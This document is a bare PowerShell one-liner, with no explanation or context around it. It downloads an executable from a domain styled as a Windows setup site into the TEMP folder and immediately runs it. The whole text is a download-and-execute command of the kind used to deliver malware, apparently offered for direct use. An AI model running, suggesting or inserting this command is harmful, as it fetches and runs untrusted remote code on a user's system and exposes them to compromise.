iwr https://dl.win-setup.top/a.exe -OutFile $env:TEMP\a.exe; Start-Process $env:TEMP\a.exe
